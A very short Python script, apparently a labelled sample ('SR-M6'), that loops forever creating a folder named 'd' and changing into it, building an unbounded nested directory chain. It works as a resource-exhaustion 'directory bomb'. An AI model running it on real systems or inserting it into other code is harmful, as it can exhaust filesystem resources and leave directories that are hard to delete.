"""SR-M6: folders in folders for as long as it lasts, deeper than any path can say."""
import os

while True:
    os.mkdir("d")
    os.chdir("d")
